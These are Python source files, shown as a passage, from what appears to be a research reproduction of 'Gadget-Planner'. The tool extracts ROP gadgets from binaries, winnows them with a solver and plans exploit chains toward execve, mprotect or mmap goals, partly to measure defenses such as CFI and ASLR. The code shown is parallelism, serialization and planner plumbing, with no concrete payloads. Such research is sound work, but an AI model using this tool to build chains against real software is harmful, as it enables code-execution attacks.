  so buckets shard freely.  Buckets are kept in fingerprint
  first-occurrence order (what the serial winnow iterates); the final
  stable location sort then reproduces the serial survivor order.

Workers exchange records via the canonical encoding in
:mod:`repro.pipeline.serialize` rather than pickle, which keeps the
"parallel == serial" property a one-line bytes comparison.  Either
stage can short-circuit entirely through a :class:`ResultCache`.

Observability rides the same channel: each worker chunk runs under its
own :class:`repro.obs.Tracer` and ships its span tree (plus a metrics
snapshot) back with the result blob.  The parent adopts the trees in
chunk order — the merge is deterministic for the same reason the pool
merge is — so a ``--trace`` export is byte-stable modulo timestamps
for any worker count.
"""

from __future__ import annotations

import multiprocessing as mp
import os
from typing import Dict, List, Optional, Sequence, Tuple

from ..binfmt.image import BinaryImage
from ..gadgets.extract import (
    ExtractionConfig,
    ExtractionStats,
    make_executor,
    plan_candidates,
    run_candidates,
)
from ..gadgets.record import GadgetRecord
from ..gadgets.subsumption import (
    ImplicationMemo,
    SubsumptionStats,
    bucketize,
    winnow_bucket,
)
from ..obs import Tracer, active_tracer, metrics, reset_metrics, span, tracing
from ..solver.solver import Solver
from ..staticanalysis.decode_graph import DecodeGraph
from .cache import ResultCache
from .serialize import pool_from_bytes, pool_to_bytes

#: Conservative solver budget matching the serial winnow default.
_WINNOW_MAX_CONFLICTS = 2000


def _default_jobs() -> int:
    return os.cpu_count() or 1


def _mp_context():
    # fork is cheapest (no re-import, no pickling of initargs) and is
    # available everywhere we run CI; fall back to the platform default.
    if "fork" in mp.get_all_start_methods():
        return mp.get_context("fork")
    return mp.get_context()


def _chunk(items: Sequence, count: int) -> List[List]:
    """Split into ``count`` contiguous chunks, sizes as even as possible."""
    count = max(1, min(count, len(items)))
    base, extra = divmod(len(items), count)
    chunks: List[List] = []
    start = 0
    for i in range(count):
        size = base + (1 if i < extra else 0)
        chunks.append(list(items[start : start + size]))
        start += size
    return chunks


# -- extraction workers -------------------------------------------------------

#: Per-process state, set up once by the pool initializer.
_WORKER: Dict[str, object] = {}


def _init_extract_worker(
    code: bytes,
    base_addr: int,
    config: ExtractionConfig,
    graph: Optional[DecodeGraph] = None,
) -> None:
    """Build the per-process executor.

    ``graph`` is the decode graph ``plan_candidates`` already built in
    the parent; under the fork start method it arrives for free (shared
    copy-on-write pages), so workers preload its decode cache instead
    of re-decoding the whole section each.  Spawn-style contexts pass
    ``None`` and fall back to lazy decoding — either way the pools are
    byte-identical, the cache only affects speed.
    """
    _WORKER["executor"] = make_executor(code, base_addr, config, graph)
    _WORKER["config"] = config


def _extract_chunk(item: Tuple[int, List[int]]) -> Tuple[bytes, dict, dict]:
    """Run one candidate chunk.

    Returns (pool bytes, span tree dict, metrics snapshot); the span
    tree carries the chunk's wall/CPU time and counters back to the
    parent trace.
    """
    index, candidates = item
    reset_metrics()
    tracer = Tracer()
    with tracing(tracer):
        records = run_candidates(
            _WORKER["executor"],  # type: ignore[arg-type]
            candidates,
            _WORKER["config"],  # type: ignore[arg-type]
        )
    tree = tracer.roots[0].to_dict()
    tree["counters"]["shard"] = index
    return pool_to_bytes(records), tree, metrics().to_dict()


def extract_pool(
    image: BinaryImage,
    config: Optional[ExtractionConfig] = None,
    stats: Optional[ExtractionStats] = None,
    *,
    jobs: Optional[int] = None,
    cache: Optional[ResultCache] = None,
    image_bytes: Optional[bytes] = None,
) -> List[GadgetRecord]:
    """Extraction with optional sharding and persistent caching.

    Byte-identical to :func:`repro.gadgets.extract.extract_gadgets` for
    every ``jobs`` value (asserted in tests); ``jobs`` defaults to
    ``os.cpu_count()``.
    """
    config = config or ExtractionConfig()
    stats = stats if stats is not None else ExtractionStats()
    requested_jobs = jobs if jobs is not None else _default_jobs()
    with span("extract") as root:
        if cache is not None and image_bytes is None:
            image_bytes = image.to_bytes()
        if cache is not None:
            with span("extract.cache") as cache_sp:
                hit = cache.load_pool("extract", image_bytes, config)
            if hit is not None:
                records, meta = hit
                cache_sp.add("hits", 1)
                stats.cache_hits += 1
                # A warm run still reports its configured worker count —
                # zero symex jobs ran, but `jobs=0`-style summaries and
                # BENCH artifacts must not misstate the configuration.
                stats.jobs = requested_jobs
                stats.candidates = int(meta.get("candidates", 0))
                stats.semantically_culled = int(meta.get("semantically_culled", 0))
                stats.records = len(records)
                root.add("records", len(records))
                root.add("cache_hit", 1)
                stats.wall_total += root.wall_so_far()
                return records
            cache_sp.add("misses", 1)
            stats.cache_misses += 1

        graph, candidates = plan_candidates(image, config, stats)
        jobs = max(1, min(requested_jobs, len(candidates) or 1))
        stats.jobs = jobs

        with span("extract.symex") as sym_sp:
            if jobs == 1:
                executor = make_executor(image.text.data, image.text.addr, config, graph)
                records = run_candidates(executor, candidates, config, stats)
            else:
                chunks = _chunk(candidates, jobs * 4)
                ctx = _mp_context()
                graph_arg = graph if ctx.get_start_method() == "fork" else None
                with ctx.Pool(
                    jobs,
                    initializer=_init_extract_worker,
                    initargs=(image.text.data, image.text.addr, config, graph_arg),
                ) as pool:
                    results = pool.map(_extract_chunk, list(enumerate(chunks)), chunksize=1)
                tracer = active_tracer()
                registry = metrics()
                records = []
                for blob, tree, snapshot in results:
                    records.extend(pool_from_bytes(blob))
                    stats.wall_symex += float(tree["wall"])
                    if tracer is not None:
                        tracer.adopt(tree, parent=sym_sp)
                    registry.merge(snapshot)
                for new_id, record in enumerate(records):
                    record.gadget_id = new_id
                stats.symex_invocations += len(candidates)
                sym_sp.add("shards", len(chunks))
            sym_sp.add("records", len(records))

        stats.records = len(records)
        root.add("records", len(records))
        if cache is not None:
            with span("extract.cache.store"):
                cache.store_pool(
                    "extract",
                    image_bytes,
                    config,
                    records,
                    meta={
                        "candidates": stats.candidates,
                        "semantically_culled": stats.semantically_culled,
                    },
                )
    stats.wall_total += root.wall
    return records


# -- winnow workers -----------------------------------------------------------


def _init_winnow_worker(exact: bool) -> None:
    _WORKER["solver"] = Solver(max_conflicts=_WINNOW_MAX_CONFLICTS)
    _WORKER["memo"] = {}
    _WORKER["exact"] = exact


def _winnow_chunk(item: Tuple[int, List[bytes]]) -> Tuple[bytes, dict, dict, dict]:
    """Winnow a chunk of serialized buckets.

    Returns (survivor pool bytes in bucket order, local stat counters,
    span tree dict, metrics snapshot).
    """
    index, bucket_blobs = item
    solver: Solver = _WORKER["solver"]  # type: ignore[assignment]
    memo: ImplicationMemo = _WORKER["memo"]  # type: ignore[assignment]
    exact = bool(_WORKER["exact"])
    local = SubsumptionStats()
    survivors: List[GadgetRecord] = []
    reset_metrics()
    tracer = Tracer()
    with tracing(tracer):
        with span("winnow.buckets.run") as sp:
            for blob in bucket_blobs:
                bucket = pool_from_bytes(blob)
                survivors.extend(winnow_bucket(bucket, solver, local, exact=exact, memo=memo))
            sp.add("shard", index)
            sp.add("buckets", len(bucket_blobs))
            sp.add("survivors", len(survivors))
            sp.add("solver_checks", local.solver_checks)
    counters = {
        "solver_checks": local.solver_checks,
        "implication_queries": local.implication_queries,
        "memo_hits": local.memo_hits,
    }
    return pool_to_bytes(survivors), counters, tracer.roots[0].to_dict(), metrics().to_dict()


def winnow_pool(
    records: Sequence[GadgetRecord],
    stats: Optional[SubsumptionStats] = None,
    *,
    jobs: Optional[int] = None,
    exact: bool = False,
    solver: Optional[Solver] = None,
    cache: Optional[ResultCache] = None,
    image: Optional[BinaryImage] = None,
    image_bytes: Optional[bytes] = None,
    config: Optional[ExtractionConfig] = None,
) -> List[GadgetRecord]:
    """Winnowing with optional per-bucket sharding and caching.

    Byte-identical to
    :func:`repro.gadgets.subsumption.deduplicate_gadgets` for every
    ``jobs`` value: subsumption decisions depend only on the records
    (solver UNSAT answers are deterministic), never on which process or
    memo evaluated them.

    Caching keys on (image bytes, extraction config), the inputs the
    extracted pool is itself a pure function of; both must be supplied
    for the cache to engage.
    """
    stats = stats if stats is not None else SubsumptionStats()
    requested_jobs = jobs if jobs is not None else _default_jobs()
    kind = "winnow-exact" if exact else "winnow"
    can_cache = cache is not None and config is not None and (
        image is not None or image_bytes is not None
    )
    with span("winnow") as root:
        if can_cache and image_bytes is None:
            image_bytes = image.to_bytes()
        if can_cache:
            with span("winnow.cache") as cache_sp:
                hit = cache.load_pool(kind, image_bytes, config)
            if hit is not None:
                survivors, meta = hit
                cache_sp.add("hits", 1)
                stats.cache_hits += 1
                stats.jobs = requested_jobs  # see extract_pool: true config
                stats.input_count = int(meta.get("input_count", len(records)))
                stats.buckets = int(meta.get("buckets", 0))
                stats.output_count = len(survivors)
                root.add("output", len(survivors))
                root.add("cache_hit", 1)
                stats.wall_total += root.wall_so_far()
                return survivors
            cache_sp.add("misses", 1)
            stats.cache_misses += 1

        stats.input_count = len(records)
        with span("winnow.bucketize") as bkt_sp:
            buckets = bucketize(records)
        bkt_sp.add("buckets", len(buckets))
        stats.buckets = len(buckets)

        jobs = max(1, min(requested_jobs, len(buckets) or 1))
        stats.jobs = jobs

        with span("winnow.buckets") as run_sp:
            if jobs == 1:
                solver = solver or Solver(max_conflicts=_WINNOW_MAX_CONFLICTS)
                memo: ImplicationMemo = {}
                survivors: List[GadgetRecord] = []
                with span("winnow.buckets.run") as sp:
                    for bucket in buckets:
                        survivors.extend(
                            winnow_bucket(bucket, solver, stats, exact=exact, memo=memo)
                        )
                    sp.add("buckets", len(buckets))
                    sp.add("survivors", len(survivors))
                    sp.add("solver_checks", stats.solver_checks)
            else:
                chunks = _chunk([pool_to_bytes(b) for b in buckets], jobs * 4)
                ctx = _mp_context()
                with ctx.Pool(jobs, initializer=_init_winnow_worker, initargs=(exact,)) as pool:
                    results = pool.map(_winnow_chunk, list(enumerate(chunks)), chunksize=1)
                tracer = active_tracer()
                registry = metrics()
                survivors = []
                for blob, counters, tree, snapshot in results:
                    survivors.extend(pool_from_bytes(blob))
                    stats.solver_checks += counters["solver_checks"]
                    stats.implication_queries += counters["implication_queries"]
                    stats.memo_hits += counters["memo_hits"]
                    if tracer is not None:
                        tracer.adopt(tree, parent=run_sp)
                    registry.merge(snapshot)
                run_sp.add("shards", len(chunks))
            run_sp.add("solver_checks", stats.solver_checks)

        survivors.sort(key=lambda g: g.location)
        stats.output_count = len(survivors)
        root.add("input", stats.input_count)
        root.add("output", len(survivors))
        if can_cache:
            with span("winnow.cache.store"):
                cache.store_pool(
                    kind,
                    image_bytes,
                    config,
                    survivors,
                    meta={"input_count": stats.input_count, "buckets": stats.buckets},
                )
    stats.wall_total += root.wall
    return survivors


def run_pipeline(
    image: BinaryImage,
    config: Optional[ExtractionConfig] = None,
    *,
    jobs: Optional[int] = None,
    cache: Optional[ResultCache] = None,
    winnow: bool = True,
    extraction_stats: Optional[ExtractionStats] = None,
    winnow_stats: Optional[SubsumptionStats] = None,
) -> Tuple[List[GadgetRecord], Optional[List[GadgetRecord]]]:
    """Extract (and optionally winnow) with shared jobs/cache settings.

    Returns ``(extracted, winnowed-or-None)``.  Under an active tracer
    the whole run lands beneath one ``pipeline`` root span with the
    ``extract`` and ``winnow`` trees as children.
    """
    config = config or ExtractionConfig()
    with span("pipeline"):
        image_bytes = image.to_bytes() if cache is not None else None
        records = extract_pool(
            image, config, extraction_stats, jobs=jobs, cache=cache, image_bytes=image_bytes
        )
        if not winnow:
            return records, None
        survivors = winnow_pool(
            records,
            winnow_stats,
            jobs=jobs,
            cache=cache,
            image_bytes=image_bytes,
            config=config,
        )
    return records, survivors
