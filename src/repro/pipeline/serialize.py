"""Stable binary serialization for gadget pools.

Both halves of the performance layer need :class:`GadgetRecord` as
bytes: worker processes ship extracted batches back to the parent, and
the persistent cache stores whole pools on disk.  ``pickle`` would
work, but its output is not canonical (memo ids, protocol drift), and
the cache is *content-addressed* — two byte-identical pools must hash
identically across processes and Python versions.  So records get an
explicit, versioned encoding instead:

* expressions are written as a pre-order tagged tree and decoded back
  into the *exact* same dataclasses (no smart-constructor re-runs, so
  a round trip is the identity);
* enums are written by table index — the tables below are part of the
  format, so reordering an enum requires bumping ``FORMAT_VERSION``;
* integers use LEB128 varints (zig-zag for signed), which keeps small
  pools small and round-trips arbitrary-width Python ints exactly.

``pool_to_bytes(records)`` is deterministic given the records, which
is what makes "parallel pool is byte-identical to the serial pool"
testable with a single bytes comparison.
"""

from __future__ import annotations

import struct
from dataclasses import asdict
from typing import Any, List, Sequence

from ..gadgets.record import GadgetRecord, JmpType
from ..isa.instructions import Instruction, Op
from ..isa.registers import ALL_REGS, Reg
from ..symex.executor import EndKind
from ..symex.expr import (
    BVBin,
    BVBinOp,
    BVConst,
    BVIte,
    BVSym,
    BVUn,
    BVUnOp,
    BoolConn,
    BoolConst,
    BoolExpr,
    Cmp,
    CmpOp,
)
from ..symex.state import MemRead, MemWrite

#: Bump when the encoding (or any enum table order) changes; the cache
#: keys include it, so old cache entries become unreachable, not wrong.
FORMAT_VERSION = 1

_POOL_MAGIC = b"NFLP"

# Enum tables: index-in-list is the wire encoding.
_BIN_OPS = list(BVBinOp)
_UN_OPS = list(BVUnOp)
_CMP_OPS = list(CmpOp)
_CONNS = list(BoolConn)
_JMP_TYPES = list(JmpType)
_END_KINDS = list(EndKind)
_BIN_INDEX = {op: i for i, op in enumerate(_BIN_OPS)}
_UN_INDEX = {op: i for i, op in enumerate(_UN_OPS)}
_CMP_INDEX = {op: i for i, op in enumerate(_CMP_OPS)}
_CONN_INDEX = {c: i for i, c in enumerate(_CONNS)}
_JMP_INDEX = {t: i for i, t in enumerate(_JMP_TYPES)}
_END_INDEX = {k: i for i, k in enumerate(_END_KINDS)}

# Expression node tags.
_T_BVCONST = 0x01
_T_BVSYM = 0x02
_T_BVBIN = 0x03
_T_BVUN = 0x04
_T_BVITE = 0x05
_T_BOOLCONST = 0x10
_T_CMP = 0x11
_T_BOOLEXPR = 0x12

_NO_REG = 0xFF


class SerializationError(ValueError):
    """Raised on a malformed or version-mismatched pool blob."""


class _Writer:
    def __init__(self) -> None:
        self.buf = bytearray()

    def u8(self, value: int) -> None:
        self.buf.append(value & 0xFF)

    def u64(self, value: int) -> None:
        self.buf += struct.pack("<Q", value & ((1 << 64) - 1))

    def varint(self, value: int) -> None:
        if value < 0:
            raise SerializationError(f"varint requires value >= 0, got {value}")
        while True:
            byte = value & 0x7F
            value >>= 7
            self.u8(byte | (0x80 if value else 0))
            if not value:
                break

    def sint(self, value: int) -> None:
        # Zig-zag: arbitrary-precision, exact for any Python int.
        self.varint(value * 2 if value >= 0 else -value * 2 - 1)

    def opt_sint(self, value) -> None:
        if value is None:
            self.u8(0)
        else:
            self.u8(1)
            self.sint(value)

    def string(self, text: str) -> None:
        encoded = text.encode()
        self.varint(len(encoded))
        self.buf += encoded

    def reg(self, reg) -> None:
        self.u8(_NO_REG if reg is None else int(reg))

    def bool(self, value: bool) -> None:
        self.u8(1 if value else 0)


class _Reader:
    def __init__(self, blob: bytes) -> None:
        self.blob = blob
        self.pos = 0

    def u8(self) -> int:
        try:
            value = self.blob[self.pos]
        except IndexError:
            raise SerializationError("truncated pool blob") from None
        self.pos += 1
        return value

    def u64(self) -> int:
        try:
            (value,) = struct.unpack_from("<Q", self.blob, self.pos)
        except struct.error as exc:
            raise SerializationError(f"truncated pool blob: {exc}") from None
        self.pos += 8
        return value

    def varint(self) -> int:
        value = 0
        shift = 0
        while True:
            byte = self.u8()
            value |= (byte & 0x7F) << shift
            if not byte & 0x80:
                return value
            shift += 7

    def sint(self) -> int:
        raw = self.varint()
        return raw // 2 if raw % 2 == 0 else -(raw + 1) // 2

    def opt_sint(self):
        return self.sint() if self.u8() else None

    def string(self) -> str:
        length = self.varint()
        out = self.blob[self.pos : self.pos + length]
        if len(out) != length:
            raise SerializationError("truncated string")
        self.pos += length
        return out.decode()

    def reg(self):
        value = self.u8()
        return None if value == _NO_REG else Reg(value)

    def bool(self) -> bool:
        return bool(self.u8())


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


def _write_expr(w: _Writer, expr) -> None:
    if isinstance(expr, BVConst):
        w.u8(_T_BVCONST)
        w.u64(expr.value)
    elif isinstance(expr, BVSym):
        w.u8(_T_BVSYM)
        w.string(expr.name)
    elif isinstance(expr, BVBin):
        w.u8(_T_BVBIN)
        w.u8(_BIN_INDEX[expr.op])
        _write_expr(w, expr.lhs)
        _write_expr(w, expr.rhs)
    elif isinstance(expr, BVUn):
        w.u8(_T_BVUN)
        w.u8(_UN_INDEX[expr.op])
        _write_expr(w, expr.arg)
    elif isinstance(expr, BVIte):
        w.u8(_T_BVITE)
        _write_expr(w, expr.cond)
        _write_expr(w, expr.then)
        _write_expr(w, expr.other)
    elif isinstance(expr, BoolConst):
        w.u8(_T_BOOLCONST)
        w.bool(expr.value)
    elif isinstance(expr, Cmp):
        w.u8(_T_CMP)
        w.u8(_CMP_INDEX[expr.op])
        _write_expr(w, expr.lhs)
        _write_expr(w, expr.rhs)
    elif isinstance(expr, BoolExpr):
        w.u8(_T_BOOLEXPR)
        w.u8(_CONN_INDEX[expr.conn])
        w.varint(len(expr.args))
        for arg in expr.args:
            _write_expr(w, arg)
    else:
        raise SerializationError(f"cannot serialize expression {expr!r}")


def _read_expr(r: _Reader):
    # Rebuild the raw dataclasses — NOT the smart constructors — so the
    # decoded tree is structurally identical to what was written.
    tag = r.u8()
    if tag == _T_BVCONST:
        return BVConst(r.u64())
    if tag == _T_BVSYM:
        return BVSym(r.string())
    if tag == _T_BVBIN:
        op = _BIN_OPS[r.u8()]
        return BVBin(op, _read_expr(r), _read_expr(r))
    if tag == _T_BVUN:
        op = _UN_OPS[r.u8()]
        return BVUn(op, _read_expr(r))
    if tag == _T_BVITE:
        return BVIte(_read_expr(r), _read_expr(r), _read_expr(r))
    if tag == _T_BOOLCONST:
        return BoolConst(r.bool())
    if tag == _T_CMP:
        op = _CMP_OPS[r.u8()]
        return Cmp(op, _read_expr(r), _read_expr(r))
    if tag == _T_BOOLEXPR:
        conn = _CONNS[r.u8()]
        count = r.varint()
        return BoolExpr(conn, tuple(_read_expr(r) for _ in range(count)))
    raise SerializationError(f"unknown expression tag {tag:#x}")


# ---------------------------------------------------------------------------
# Instructions and memory effects
# ---------------------------------------------------------------------------


def _write_insn(w: _Writer, insn: Instruction) -> None:
    w.varint(int(insn.op))
    w.reg(insn.dst)
    w.reg(insn.src)
    w.reg(insn.base)
    w.sint(insn.disp)
    w.opt_sint(insn.imm)
    w.opt_sint(insn.rel)
    w.varint(insn.addr)


def _read_insn(r: _Reader) -> Instruction:
    return Instruction(
        op=Op(r.varint()),
        dst=r.reg(),
        src=r.reg(),
        base=r.reg(),
        disp=r.sint(),
        imm=r.opt_sint(),
        rel=r.opt_sint(),
        addr=r.varint(),
    )


def _write_mem_read(w: _Writer, read: MemRead) -> None:
    _write_expr(w, read.addr)
    w.string(read.value_sym.name)
    w.u8(read.width)


def _read_mem_read(r: _Reader) -> MemRead:
    return MemRead(addr=_read_expr(r), value_sym=BVSym(r.string()), width=r.u8())


def _write_mem_write(w: _Writer, write: MemWrite) -> None:
    _write_expr(w, write.addr)
    _write_expr(w, write.value)
    w.u8(write.width)
    w.opt_sint(write.stack_offset)


def _read_mem_write(r: _Reader) -> MemWrite:
    return MemWrite(
        addr=_read_expr(r), value=_read_expr(r), width=r.u8(), stack_offset=r.opt_sint()
    )


def _reg_mask(regs) -> int:
    mask = 0
    for reg in regs:
        mask |= 1 << int(reg)
    return mask


def _mask_regs(mask: int):
    return frozenset(reg for reg in ALL_REGS if mask & (1 << int(reg)))


# ---------------------------------------------------------------------------
# Records and pools
# ---------------------------------------------------------------------------


def _write_record(w: _Writer, record: GadgetRecord) -> None:
    w.varint(record.gadget_id)
    w.varint(record.location)
    w.varint(record.length)
    w.varint(len(record.insns))
    for insn in record.insns:
        _write_insn(w, insn)
    w.u8(_JMP_INDEX[record.jmp_type])
    w.u8(_END_INDEX[record.end])
    w.varint(len(record.pre_cond))
    for cond in record.pre_cond:
        _write_expr(w, cond)
    for reg in ALL_REGS:  # fixed order: part of the format
        _write_expr(w, record.post_regs[reg])
    _write_expr(w, record.jump_target)
    w.varint(_reg_mask(record.clob_regs))
    w.varint(_reg_mask(record.ctrl_regs))
    w.opt_sint(record.stack_delta)
    w.bool(record.stack_smashed)
    w.varint(len(record.mem_reads))
    for read in record.mem_reads:
        _write_mem_read(w, read)
    w.varint(len(record.mem_writes))
    for write in record.mem_writes:
        _write_mem_write(w, write)
    w.sint(record.max_stack_offset)
    w.varint(record.conditional_jumps)
    w.varint(record.merged_direct_jumps)


def _read_record(r: _Reader) -> GadgetRecord:
    gadget_id = r.varint()
    location = r.varint()
    length = r.varint()
    insns = [_read_insn(r) for _ in range(r.varint())]
    jmp_type = _JMP_TYPES[r.u8()]
    end = _END_KINDS[r.u8()]
    pre_cond = [_read_expr(r) for _ in range(r.varint())]
    post_regs = {reg: _read_expr(r) for reg in ALL_REGS}
    jump_target = _read_expr(r)
    clob_regs = _mask_regs(r.varint())
    ctrl_regs = _mask_regs(r.varint())
    stack_delta = r.opt_sint()
    stack_smashed = r.bool()
    mem_reads = [_read_mem_read(r) for _ in range(r.varint())]
    mem_writes = [_read_mem_write(r) for _ in range(r.varint())]
    max_stack_offset = r.sint()
    conditional_jumps = r.varint()
    merged_direct_jumps = r.varint()
    return GadgetRecord(
        gadget_id=gadget_id,
        location=location,
        length=length,
        insns=insns,
        jmp_type=jmp_type,
        end=end,
        pre_cond=pre_cond,
        post_regs=post_regs,
        jump_target=jump_target,
        clob_regs=clob_regs,
        ctrl_regs=ctrl_regs,
        stack_delta=stack_delta,
        stack_smashed=stack_smashed,
        mem_reads=mem_reads,
        mem_writes=mem_writes,
        max_stack_offset=max_stack_offset,
        conditional_jumps=conditional_jumps,
        merged_direct_jumps=merged_direct_jumps,
    )


def record_to_bytes(record: GadgetRecord) -> bytes:
    """Canonical encoding of one record (no pool header)."""
    w = _Writer()
    _write_record(w, record)
    return bytes(w.buf)


def record_from_bytes(blob: bytes) -> GadgetRecord:
    """Inverse of :func:`record_to_bytes`."""
    r = _Reader(blob)
    record = _read_record(r)
    if r.pos != len(blob):
        raise SerializationError(f"{len(blob) - r.pos} trailing bytes after record")
    return record


def pool_to_bytes(records: Sequence[GadgetRecord]) -> bytes:
    """Canonical encoding of a whole pool (ordered, versioned)."""
    w = _Writer()
    w.buf += _POOL_MAGIC
    w.u8(FORMAT_VERSION)
    w.varint(len(records))
    for record in records:
        _write_record(w, record)
    return bytes(w.buf)


def pool_from_bytes(blob: bytes) -> List[GadgetRecord]:
    """Inverse of :func:`pool_to_bytes`."""
    if blob[: len(_POOL_MAGIC)] != _POOL_MAGIC:
        raise SerializationError("bad pool magic")
    r = _Reader(blob)
    r.pos = len(_POOL_MAGIC)
    version = r.u8()
    if version != FORMAT_VERSION:
        raise SerializationError(f"pool format v{version}, expected v{FORMAT_VERSION}")
    count = r.varint()
    records = [_read_record(r) for _ in range(count)]
    if r.pos != len(blob):
        raise SerializationError(f"{len(blob) - r.pos} trailing bytes after pool")
    return records


def config_key_bytes(config: Any) -> bytes:
    """A canonical byte string for a config dataclass (cache keying).

    Field *names* are included, so adding a knob (even with a default)
    changes every key — a new knob means the old pools were computed
    under unspecified semantics for it.
    """
    items = sorted(asdict(config).items())
    return repr(items).encode()
