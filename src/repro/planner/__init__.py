"""Gadget-Planner — the paper's contribution, end to end.

:class:`GadgetPlanner` drives the four-stage workflow of Fig. 3:

1. **Gadget extraction** (:mod:`repro.gadgets.extract`),
2. **Subsumption testing** (:mod:`repro.gadgets.subsumption`),
3. **Partial-order planning** (:mod:`repro.planner.search`),
4. **Post-processing** (:mod:`repro.planner.payload`): payload assembly
   plus concrete validation in the emulator.

Example::

    from repro.planner import GadgetPlanner
    planner = GadgetPlanner(image)
    report = planner.run()
    for payload in report.payloads:
        print(payload.describe())
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, TYPE_CHECKING

from ..binfmt.image import BinaryImage
from ..obs import span
from ..solver.solver import Solver
from ..gadgets.extract import ExtractionConfig, ExtractionStats
from ..gadgets.subsumption import SubsumptionStats
from ..pipeline.cache import ResultCache
from ..pipeline.parallel import extract_pool, winnow_pool
from .conditions import MemCondition, RegCondition
from .goals import (
    AttackGoal,
    MemoryGoal,
    Pointer,
    ResolvedGoal,
    execve_goal,
    find_bytes_in_image,
    mmap_goal,
    mprotect_goal,
    resolve_goal,
    standard_goals,
)
from .library import ChainKind, GadgetLibrary, chain_kind
from .payload import AssemblyError, AttackPayload, assemble_payload, validate_payload
from .plan import CausalLink, OpenCondition, PartialPlan, Step
from .search import PlannerConfig, SearchStats, search_plans

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..defenses.policy import DefensePolicy
    from ..defenses.survive import SurvivalCensus


@dataclass
class StageTimings:
    """Wall-clock per stage (Table VII).

    Each field is the wall time of the matching :mod:`repro.obs` stage
    span (``plan.extract`` / ``plan.winnow`` / ``plan.goals`` /
    ``plan.assemble``), so the report and a ``--trace`` export agree.
    """

    extraction: float = 0.0
    subsumption: float = 0.0
    planning: float = 0.0
    postprocessing: float = 0.0

    @property
    def total(self) -> float:
        return self.extraction + self.subsumption + self.planning + self.postprocessing


@dataclass
class PlannerReport:
    """Everything the evaluation tables need from one run."""

    gadgets_total: int = 0
    gadgets_after_subsumption: int = 0
    library_size: int = 0
    payloads: List[AttackPayload] = field(default_factory=list)
    per_goal: Dict[str, int] = field(default_factory=dict)
    timings: StageTimings = field(default_factory=StageTimings)
    extraction_stats: ExtractionStats = field(default_factory=ExtractionStats)
    subsumption_stats: SubsumptionStats = field(default_factory=SubsumptionStats)
    search_stats: Dict[str, SearchStats] = field(default_factory=dict)
    #: Defense-aware runs only (``GadgetPlanner(defense=...)``):
    defense_policy: Optional[str] = None
    gadgets_surviving: Optional[int] = None
    survival: Optional["SurvivalCensus"] = None
    #: Payloads that assembled and reached execution but were stopped by
    #: the enforced policy (CFI/shadow violation, vetoed syscall, or an
    #: ASLR miss) — the "reclaimed" part of the attack surface.
    blocked_by_defense: int = 0
    #: Leak-oracle queries consumed across validated payloads (ASLR).
    leaks_used: int = 0

    @property
    def total_payloads(self) -> int:
        return len(self.payloads)

    def gadgets_used(self) -> int:
        return sum(len(p.chain) for p in self.payloads)


class GadgetPlanner:
    """The full pipeline against one binary image."""

    def __init__(
        self,
        image: BinaryImage,
        *,
        extraction: Optional[ExtractionConfig] = None,
        planner: Optional[PlannerConfig] = None,
        solver: Optional[Solver] = None,
        validate: bool = True,
        jobs: Optional[int] = None,
        cache: Optional[ResultCache] = None,
        defense: Optional["DefensePolicy"] = None,
    ) -> None:
        self.image = image
        self.extraction_config = extraction or ExtractionConfig()
        self.planner_config = planner or PlannerConfig()
        # A policy with nothing enabled is the no-defense fast path:
        # extraction, winnowing, planning and validation all take the
        # exact historical route (byte-identical pools and payloads).
        self.defense = defense if defense is not None and defense.enabled else None
        # A tight conflict budget: planner queries are overwhelmingly
        # easy; a hard one returning UNKNOWN just skips that provider.
        self.solver = solver or Solver(max_conflicts=4000)
        self.validate = validate
        # None keeps the historic single-process behavior; pass an
        # explicit worker count (or a ResultCache) to opt into the
        # repro.pipeline fast paths — the pools are byte-identical.
        self.jobs = jobs if jobs is not None else 1
        self.cache = cache
        self._locate_cache: Dict[int, Optional[int]] = {}

    def _word_locator(self, value: int) -> Optional[int]:
        """A static address whose 8 bytes hold ``value`` (data-reuse).

        Prefers the immutable text section over writable data, since
        data contents may have changed by the time an exploit fires.
        """
        value &= (1 << 64) - 1
        if value in self._locate_cache:
            return self._locate_cache[value]
        import struct

        needle = struct.pack("<Q", value)
        found: Optional[int] = None
        for section in [self.image.text] + [
            s for s in self.image.sections if s.name != ".text"
        ]:
            index = section.data.find(needle)
            if index >= 0:
                found = section.addr + index
                break
        self._locate_cache[value] = found
        return found

    def run(self, goals: Optional[Sequence[AttackGoal]] = None) -> PlannerReport:
        report = PlannerReport()
        goals = list(goals) if goals is not None else standard_goals(self.image)
        cfi_targets = None
        if self.defense is not None:
            report.defense_policy = self.defense.name

        with span("plan") as plan_root:
            with span("plan.extract") as extract_sp:
                image_bytes = self.image.to_bytes() if self.cache is not None else None
                records = extract_pool(
                    self.image,
                    self.extraction_config,
                    report.extraction_stats,
                    jobs=self.jobs,
                    cache=self.cache,
                    image_bytes=image_bytes,
                )
            report.gadgets_total = len(records)
            report.timings.extraction = extract_sp.wall

            with span("plan.winnow") as winnow_sp:
                deduped = winnow_pool(
                    records,
                    report.subsumption_stats,
                    jobs=self.jobs,
                    solver=self.solver,
                    cache=self.cache,
                    image_bytes=image_bytes,
                    config=self.extraction_config,
                )
                report.gadgets_after_subsumption = len(deduped)
            report.timings.subsumption = winnow_sp.wall

            if self.defense is not None:
                # A pure post-filter over the winnowed pool: the cached
                # pools above are shared across policies untouched.
                from ..defenses.cfi import CFITargets
                from ..defenses.survive import SurvivalCensus, filter_pool

                with span("plan.defense_filter") as def_sp:
                    from ..defenses.policy import CFIMode

                    if self.defense.cfi is not CFIMode.OFF:
                        cfi_targets = CFITargets.build(self.image)
                    report.survival = SurvivalCensus(policy=self.defense.name)
                    deduped = filter_pool(
                        self.defense,
                        deduped,
                        targets=cfi_targets,
                        census=report.survival,
                    )
                    report.gadgets_surviving = len(deduped)
                    def_sp.add("surviving", len(deduped))

            library = GadgetLibrary.build(deduped)
            report.library_size = library.size

            complete: List[tuple] = []  # (resolved goal, plan)
            with span("plan.goals") as goals_sp:
                for goal in goals:
                    try:
                        resolved = resolve_goal(self.image, goal)
                    except ValueError:
                        report.per_goal[goal.name] = 0
                        continue
                    stats = SearchStats()
                    report.search_stats[goal.name] = stats
                    for plan in search_plans(
                        library,
                        resolved,
                        solver=self.solver,
                        config=self.planner_config,
                        stats=stats,
                        locator=self._word_locator,
                    ):
                        complete.append((resolved, plan))
                goals_sp.add("goals", len(goals))
                goals_sp.add("complete_plans", len(complete))
